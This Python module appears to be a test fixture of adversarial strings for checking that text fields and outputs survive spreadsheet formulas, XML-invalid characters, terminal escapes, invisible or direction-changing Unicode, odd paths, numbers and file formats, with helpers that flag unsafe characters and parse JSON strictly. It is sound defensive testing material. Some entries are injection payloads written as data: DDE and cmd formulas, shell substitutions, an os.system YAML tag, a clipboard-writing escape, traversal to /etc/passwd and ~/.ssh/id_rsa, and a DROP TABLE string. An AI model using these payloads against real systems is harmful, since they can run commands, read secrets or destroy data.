"""Texts that go wrong somewhere: each by a name, for every field that takes text and every output that shows one."""

import unicodedata
from collections.abc import Iterable, Mapping

NUL, ESC, BELL = "\x00", "\x1b", "\x07"
LINE_OF_A_MEGABYTE = "m" * 1_000_000

STRINGS: Mapping[str, str] = {
    # Formulas, as spreadsheets take them.
    "F01": "=1+1",
    "F02": '=HYPERLINK("http://example.com/?q="&A1,"open")',
    "F03": "=cmd|'/c calc'!A1",
    "F04": "+1+1",
    "F05": "-2+3+cmd|' /C calc'!A1",
    "F06": "@SUM(1+1)*cmd|' /C calc'!A1",
    "F07": "\t=1+1",
    "F08": "\r=1+1",
    "F09": "\n=1+1",
    "F10": 'ok","=1+1',
    "F11": "=",
    "F12": "= see my note of 3 May",
    "F13": "\uff1d1+1",
    "F14": "#N/A",
    "F15": "#REF!",
    "F16": "{=SUM(1)}",
    "F17": "'=1+1",
    "F18": '=DDE("cmd";"/C calc";"x")',
    # What XML cannot hold, or takes for something else.
    "X01": "_x000D__x0041_",
    "X02": "<b>&amp;</b> &#x41; ]]> <!-- -->",
    "X03": f"before{NUL}after",
    "X04": "".join(map(chr, (*range(1, 9), *range(14, 32)))),
    "X05": "\ufffe and \uffff",
    "X06": "half \ud800 a character",
    "X07": "\udc80 bytes of another encoding \udcff",
    "X08": "".join(map(chr, range(0x80, 0xA0))),
    "X09": "\U0001fffe \ufdd0 no characters",
    "X10": "\ue000 private",
    "X11": "&lt;script&gt;alert(1)&lt;/script&gt;",
    # What moves a terminal.
    "A01": f"{ESC}[31mred{ESC}[2J{ESC}[H",
    "A02": f"{ESC}]8;;http://example.com/{ESC}\\click{ESC}]8;;{ESC}\\",
    "A03": f"{ESC}]52;c;ZWNobyBoYWNrZWQ={BELL}",
    "A04": "\x9b2J\x9d0;title\x9c",
    "A05": f"{ESC}]0;a title{BELL}{ESC}P$q{ESC}\\{ESC}c",
    "A06": "\x08\x08\x08\x08hidden\x7f\x0b\x0c",
    "R01": "[bold red]x[/bold red] [/nope] [link=http://example.com]y[/link]",
    "R02": "{0} {name!r} %s %(x)s ${HOME} $(id) `id`",
    # What hides text or turns its direction.
    "B01": "mark \u202elaw\u202c",
    "B02": "\u2067right\u2069 \u2068first\u2069 \u2066left",
    "B03": "\u200f\u061c\u200e marks",
    "Z01": "PA\u200bSS",
    "Z02": "\u200c\u200d\u2060\ufeffjoined\u00ad",
    "Z03": "\ufeffbegins with a mark",
    "Z04": "no\u00a0break\u202fspaces\u2007here\u3000",
    "Z05": "\u2028line\u2029paragraph\x85next",
    "Z06": "tagged\U000e0041\U000e007f",
    # What looks like something else.
    "C01": unicodedata.normalize("NFD", "Renée Åström"),
    "C02": "\u0420\u0430ul \u0391nn",
    "C03": "\uff21\uff4e\uff4e \ufb01ne \u00b2",
    "C04": "İstanbul ıı ß ſ",
    "E01": "\U0001f469\u200d\u2696\ufe0f and \U0001f1ec\U0001f1e7 and \U0001f44d\U0001f3fd",
    "E02": "Z\u0351\u036b\u0343\u036a" * 20,
    "I01": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "I02": "\u6f22\u5b57\u304b\u306a \ud55c\uae00",
    # Length and lines.
    "S01": "s" * 40_000,
    "S02": LINE_OF_A_MEGABYTE,
    "S03": "\n" * 300 + "end",
    "S04": "one\r\ntwo\rthree\nfour\n\rfive\n",
    "S05": "",
    "S06": "  \t ",
    "S07": "w" * 255 + " " + "w" * 256,
    "S08": "\U0001f600" * 7_900,
    "S09": "line\n" * 1_500,
    # Paths and names.
    "P01": "../../../../etc/passwd",
    "P02": "..\\..\\windows\\system32",
    "P03": "/etc/passwd",
    "P04": "C:\\Users\\x\\y.txt",
    "P05": "\\\\server\\share",
    "P06": "nul.csv",
    "P07": "CON",
    "P08": "~/.ssh/id_rsa",
    "P09": "-rf",
    "P10": "--help",
    "P11": "a/b:c*?d|<e>",
    "P12": ".hidden.",
    "T01": "[Book]Sheet!A1:B2",
    "T02": "'History'",
    "T03": "Cover",
    # Numbers, dates and answers that are text.
    "N01": "007",
    "N02": "1E5",
    "N03": "99999999999999999999",
    "N04": "NaN",
    "N05": "-Infinity",
    "N06": "\u0661\u0662\u0663",
    "N07": "1_000",
    "D01": "3/4",
    "D02": "2026-02-30",
    "D03": "MARCH1",
    "O01": "TRUE",
    "O02": "null",
    "O03": "no",
    # Formats of files.
    "V01": "ID",
    "V02": 'a "quoted, text\nover lines',
    "V03": "a;b\tc|d",
    "M01": "# Title\n\n- [x](javascript:alert(1)) | cell | `code` <b>\n1. one\n---",
    "M02": "![x](http://example.com/x.png) **bold** \\* ~~gone~~",
    "Y01": "- key: value # note\n&a *a !!python/object/apply:os.system [id]",
    "Y02": "yes: no\n--- %YAML",
    "J01": '{"a": 1, "a": NaN} \\u0000 \\ud800',
    "Q01": "'\"`\u2018\u2019\u201c\u201d\u00ab\\",
    "Q02": "ends with a backslash\\",
    "Q03": "'; DROP TABLE marks; --",
}
"""Name to text. F formula, X XML, A terminal, R mark-up, B direction, Z invisible, C look-alike, E emoji, I script,
S size, P path, T sheet, N number, D date, O word, V CSV, M Markdown, Y YAML, J JSON, Q quotes."""

CORE = ("F01", "F03", "F05", "F06", "F07", "F10", "F12", "F14", "X01", "X03", "X05", "X06", "A01", "R01", "B01", "Z01",
        "C01", "S01", "P01", "P06")
"""Those that stand for the rest where each costs a run of its own."""

_RAW = {*map(chr, range(0x20)), *map(chr, range(0x7F, 0xA0))} - {"\n"}
_HIDING = {*"\u200b\u200c\u200d\u2060\ufeff\u00ad\u200e\u200f\u061c\u2028\u2029",
           *map(chr, range(0x202A, 0x202F)), *map(chr, range(0x2066, 0x206A)), "\U000e0041", "\U000e007f"}


def raw_in(shown: str, allowed: str = "") -> set[str]:
    """The characters in a text meant for a terminal that may never stand there as they are."""
    return {letter for letter in set(shown) - set(allowed)
            if letter in _RAW or letter in _HIDING or "\ud800" <= letter <= "\udfff"}


def strict_json(line: str) -> object:
    """The one JSON value of a text, as the strictest reader takes it: no constant beyond JSON's, no half character."""
    import json  # noqa: PLC0415

    def never(word: str) -> object:
        raise ValueError(word)

    def once(pairs: list[tuple[str, object]]) -> dict[str, object]:
        if len(dict(pairs)) < len(pairs):
            raise ValueError("a key stands twice")
        return dict(pairs)

    value = json.loads(line, parse_constant=never, object_pairs_hook=once)
    for text in texts_of(value):
        text.encode()
    return value


def texts_of(value: object) -> Iterable[str]:
    """Every text in a JSON value, keys too."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from (key, *texts_of(item))
    elif isinstance(value, list):
        for item in value:
            yield from texts_of(item)
